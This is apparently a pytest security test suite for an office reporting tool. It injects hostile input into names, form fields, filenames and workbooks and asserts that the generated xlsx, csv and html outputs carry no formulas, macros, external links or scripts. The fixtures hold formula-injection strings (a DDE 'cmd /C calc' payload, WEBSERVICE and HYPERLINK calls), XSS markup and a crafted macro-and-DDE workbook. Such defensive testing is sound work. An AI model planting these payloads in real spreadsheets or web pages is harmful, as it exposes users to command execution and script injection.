"""Nothing executable comes out: an office whose people type hostile text wherever they can, and every output looked at."""

from __future__ import annotations

import base64
import csv
import io
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest

from tests.conftest import ROOT
from tests.corpus.package import BOOK, RELS, package, parts_of
from tests.small_office import PEOPLE, UNITS, SmallOffice

W = "2025-W26"
FORMULAS = ["=cmd|' /C calc'!A0", '+1+HYPERLINK("http://x")', "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><a href=javascript:alert(1)>"
RISKY = ("=", "+", "-", "@", "\t", "\r")
ACTIVE = re.compile(
    r"vba|macro|externalLink|connections|queryTable|activeX|ctrlProp|embedding|customUI|oleObject", re.IGNORECASE
)


def linked(data: bytes) -> bytes:
    """A form with macros, a DDE link, a data connection, an outward hyperlink and a formula that reaches out."""
    parts = parts_of(data)
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + bytes(600)
    parts["xl/connections.xml"] = b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    parts["xl/externalLinks/externalLink1.xml"] = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
    )
    link = b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/>'
    parts[RELS] = parts[RELS].replace(b"</Relationships>", link + b"</Relationships>")
    reference = b'<externalReferences xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalReference r:id="rId99"/></externalReferences>'
    parts[BOOK] = parts[BOOK].replace(b"</sheets>", b"</sheets>" + reference)
    return package(parts)


def with_cell(path: Path, value: str, hyperlink: str = "") -> None:
    """Something written beside the form, where no field is."""
    book = openpyxl.load_workbook(path)
    cell = book.worksheets[0]["Z3"]
    cell.value = value
    if hyperlink:
        cell.hyperlink = hyperlink
    book.save(path)


@pytest.fixture(scope="module")
def office(tmp_path_factory: pytest.TempPathFactory) -> SmallOffice:
    people = PEOPLE.replace("Phạm Văn Cường", "=HYPERLINK(1)").replace("Vũ Thị Dung", "<b onclick=alert(1)>Dung</b>")
    people = people.replace("Chuyên viên", "@SUM(A1)").replace("Nhân viên", MARKUP)
    office = SmallOffice(tmp_path_factory.mktemp("hostile"), people=people, units=UNITS.replace("Vụ Hai", "=1+1"))
    office.issue(W)
    for n, (who, text) in enumerate(zip(("A1", "A2", "A3", "A4", "B1", "B2"), FORMULAS, strict=True)):
        quality = 41 if who in ("A3", "A4", "B2") else 38  # some go back
        path = office.report(
            W,
            who,
            (quality, 37, 19),
            f"={n} {MARKUP[:24].replace('/', '')}.xlsx",
            obstacles=text,
            summary=text,
            proposals=MARKUP,
        )
        office.fill(
            path, {("task.1", "task"): text, ("task.1", "reason"): MARKUP, ("identity.name", "value"): text}, path.name
        )
        if who == "A3":
            path.write_bytes(linked(path.read_bytes()))
        if who == "A4":
            with_cell(path, '=WEBSERVICE("http://example.org/"&A1)')
        if who == "B2":
            with_cell(path, "here", "http://example.org/")
    (office.folder / "inbox" / "=cmd <script>alert(1)<").write_bytes(b"no form")
    office.run(W)
    office.review(W, "A1", {"A2": (30, 30, 15)}, comment_A2=FORMULAS[0])
    office.review(W, "B1", {"B3": (50, 30, 15)}, comment_B3=FORMULAS[1])
    office.run(W)
    office.approve(W, "A1", {"A2": "return"}, reason_A2=FORMULAS[2])
    office.run(W)
    return office


def outputs(office: SmallOffice, kind: str) -> list[Path]:
    found = sorted((office.out / "outbox").rglob(f"*.{kind}"))
    assert found
    return found


def test_the_hostile_text_did_arrive(office: SmallOffice) -> None:
    states = {who: row["state"] for who, row in office.results(W).items()}
    assert states["A3"] == states["A4"] == states["B2"] == "returned"
    assert office.form("self", W, "A3").name.startswith("returned-")
    texts = " ".join(path.read_text(encoding="utf-8") for path in outputs(office, "html"))
    assert "alert(1)" in texts and "calc" in texts


def formulas(path: Path) -> dict[str, str]:
    book = openpyxl.load_workbook(path)
    return {f"{s.title}!{c.coordinate}": str(c.value) for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"}  # fmt: skip


def test_what_people_typed_is_a_formula_in_no_workbook(office: SmallOffice) -> None:
    typed = ("cmd|", "HYPERLINK", "WEBSERVICE", "2+3", "SUM(1)", "SUM(A1)")
    for path in outputs(office, "xlsx"):
        found = formulas(path)
        assert not [cell for cell, text in found.items() if any(word in text for word in typed) or text in ("=1+1",)], (
            path.name
        )


def test_no_workbook_holds_a_macro_a_link_outward_or_a_connection(office: SmallOffice) -> None:
    for path in outputs(office, "xlsx"):
        with zipfile.ZipFile(path) as archive:
            for entry in archive.namelist():
                assert not ACTIVE.search(entry), (path.name, entry)
                if entry.endswith(".rels"):
                    assert b'TargetMode="External"' not in archive.read(entry), (path.name, entry)
            assert b"macroEnabled" not in archive.read("[Content_Types].xml")


def test_no_field_of_a_table_begins_like_a_formula(office: SmallOffice) -> None:
    for path in outputs(office, "csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")):
            assert not [field for field in row if field.startswith(RISKY)], path.name


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.handlers: set[str] = set()
        self.addresses: list[str] = []
        self.pictures: list[str] = []
        self.policy = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        values = {key: value or "" for key, value in attrs}
        self.handlers |= {key for key in values if key.startswith("on")}
        if tag == "img":
            self.pictures.append(values.pop("src", ""))
        self.addresses += [values[key] for key in ("href", "src", "action") if key in values]
        if tag == "meta" and values.get("http-equiv", "").casefold() == "content-security-policy":
            self.policy = values["content"]


def test_every_page_escapes_what_was_typed_and_carries_a_policy(office: SmallOffice) -> None:
    shipped = {png.read_bytes() for png in (ROOT / "templates" / "guides").rglob("*.png")}
    for path in outputs(office, "html"):
        text = path.read_text(encoding="utf-8")
        page = _Page()
        page.feed(text)
        assert "default-src 'none'" in page.policy, path.name
        assert "unsafe-eval" not in page.policy and not re.search(r"script-src[^;]*'unsafe-inline'", page.policy)
        assert page.handlers == set() and page.tags.isdisjoint({"iframe", "object", "embed", "form", "base"}), path.name
        for picture in page.pictures:  # those of the guides, which come with the program
            assert base64.b64decode(picture.removeprefix("data:image/png;base64,")) in shipped, path.name
        assert "<script>alert" not in text
        assert not [a for a in page.addresses if re.match(r"\s*(javascript|data|https?|file|//)", a, re.IGNORECASE)], (
            path.name
        )
